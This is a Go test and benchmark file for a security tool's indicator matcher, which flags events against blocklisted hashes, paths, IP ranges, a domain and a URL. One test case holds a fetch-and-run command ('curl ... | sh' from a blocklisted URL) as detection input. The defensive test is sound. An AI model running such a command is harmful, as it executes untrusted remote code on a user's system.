package indicator

import (
	"fmt"
	"strings"
	"testing"
	"time"

	api "github.com/bulwarkhq/bulwark/api/indicator"
	"github.com/bulwarkhq/bulwark/event"
)

func list(t testing.TB, is ...api.Indicator) api.List {
	t.Helper()
	for n := range is {
		if is[n].Action == "" {
			is[n].Action = api.Block
		}
		if err := is[n].Normalize(); err != nil {
			t.Fatal(err)
		}
	}
	return api.List{Indicators: is}
}

func TestMatch(t *testing.T) {
	now := time.Unix(1e9, 0)
	sum := strings.Repeat("ab", 32)
	s := NewSet(now, list(t,
		api.Indicator{Type: api.FileSHA256, Value: sum, Title: "hash"},
		api.Indicator{Type: api.FileMD5, Value: strings.Repeat("1", 32), Title: "expired", Expires: now},
		api.Indicator{Type: api.FileMD5, Value: strings.Repeat("2", 32), Title: "expires", Expires: now.Add(time.Hour)},
		api.Indicator{Type: api.FilePath, Value: "/opt/bad", Title: "path"},
		api.Indicator{Type: api.FilePath, Value: "/tmp/*/x", Title: "pattern"},
		api.Indicator{Type: api.IPAddress, Value: "192.0.2.7", Title: "address", Action: api.Allow},
		api.Indicator{Type: api.IPNetwork, Value: "192.0.2.0/24", Title: "network"},
		api.Indicator{Type: api.IPNetwork, Value: "192.0.2.128/25", Title: "smaller network"},
		api.Indicator{Type: api.IPNetwork, Value: "2001:db8::/32", Title: "network 6"},
		api.Indicator{Type: api.Domain, Value: "evil.example", Title: "domain"},
		api.Indicator{Type: api.URL, Value: "https://cdn.example/bad/", Title: "url"},
	))
	run := func(p event.Process) event.Event {
		return event.Event{Class: event.ClassProcess, Action: event.ProcessCreated, Process: p}
	}
	connect := func(ip string) event.Event {
		return event.Event{Class: event.ClassNetwork, Action: event.ConnectionAttempt, Network: event.Network{RemoteIP: ip}}
	}
	ask := func(name string) event.Event {
		return event.Event{Class: event.ClassNetwork, Action: event.DNSQuery, Network: event.Network{RemoteURL: name, RemoteIP: "192.0.2.1"}}
	}
	for _, c := range []struct {
		ev   event.Event
		want string
	}{
		{run(event.Process{SHA256: sum}), "hash"},
		{run(event.Process{MD5: strings.Repeat("1", 32)}), ""},
		{run(event.Process{MD5: strings.Repeat("2", 32)}), "expires"},
		{run(event.Process{FolderPath: "/opt/bad"}), "path"},
		{run(event.Process{FolderPath: "/opt/bad2"}), ""},
		{run(event.Process{FolderPath: "/tmp/q/x"}), "pattern"},
		{run(event.Process{FolderPath: "/tmp/q/r/x"}), ""},
		{run(event.Process{CommandLine: "curl -s https://CDN.example/bad/x.sh | sh"}), "url"},
		{run(event.Process{CommandLine: "curl -s https://cdn.example/good https://cdn.example/bad/y"}), "url"},
		{run(event.Process{CommandLine: "curl -s https://cdn.example/good"}), ""},
		{event.Event{Class: event.ClassFile, Action: event.FileCreated, File: event.File{SHA256: sum}}, "hash"},
		{connect("192.0.2.7"), "address"},
		{connect("192.0.2.9"), "network"},
		{connect("192.0.2.200"), "smaller network"},
		{connect("::ffff:192.0.2.200"), "smaller network"},
		{connect("2001:db8::1"), "network 6"},
		{connect("198.51.100.1"), ""},
		{ask("www.Evil.Example."), "domain"},
		{ask("evil.example"), "domain"},
		{ask("notevil.example"), ""}, // and the server that is asked is no connection
	} {
		got := ""
		if m := s.Match(&c.ev, now.Add(time.Minute)); len(m) > 0 {
			got = m[0].Title
		}
		if got != c.want {
			t.Errorf("%+v: %q, want %q", c.ev, got, c.want)
		}
	}
	ev := run(event.Process{MD5: strings.Repeat("2", 32)})
	if m := s.Match(&ev, now.Add(2*time.Hour)); len(m) != 0 {
		t.Error("found after its time")
	}
	if a := Alert(s.Address("192.0.2.7"), &ev, "1"); a != nil {
		t.Error("an alert for what is allowed")
	}
	if a := Alert(s.Domain("evil.example"), &ev, "1"); a == nil || a.Source != event.SourceIndicator || a.Severity != event.SeverityMedium {
		t.Errorf("%+v", a)
	}
}

// many makes a list of n indicators of all kinds.
func many(n int) api.List {
	l := api.List{}
	for i := range n {
		var x api.Indicator
		switch i % 4 {
		case 0:
			x = api.Indicator{Type: api.FileSHA256, Value: fmt.Sprintf("%064x", i)}
		case 1:
			x = api.Indicator{Type: api.IPAddress, Value: fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255)}
		case 2:
			x = api.Indicator{Type: api.Domain, Value: fmt.Sprintf("d%d.example", i)}
		default:
			x = api.Indicator{Type: api.IPNetwork, Value: fmt.Sprintf("11.%d.%d.0/24", i>>8&255, i&255)}
		}
		x.Action, x.Severity, x.Title = api.Audit, "Low", "x"
		l.Indicators = append(l.Indicators, x)
	}
	return l
}

func BenchmarkMatch(b *testing.B) {
	evs := []event.Event{
		{Class: event.ClassProcess, Action: event.ProcessCreated, Process: event.Process{SHA256: strings.Repeat("f", 64), SHA1: strings.Repeat("f", 40), MD5: strings.Repeat("f", 32), FolderPath: "/usr/bin/ls", CommandLine: "ls -la"}},
		{Class: event.ClassNetwork, Action: event.ConnectionAttempt, Network: event.Network{RemoteIP: "198.51.100.7"}},
		{Class: event.ClassNetwork, Action: event.DNSQuery, Network: event.Network{RemoteURL: "www.static.example.org"}},
	}
	for _, n := range []int{100, 10_000, 100_000} {
		s := NewSet(time.Now(), many(n))
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.ReportAllocs()
			now := time.Now()
			for i := range b.N {
				if s.Match(&evs[i%len(evs)], now) != nil {
					b.Fatal("found")
				}
			}
		})
	}
}
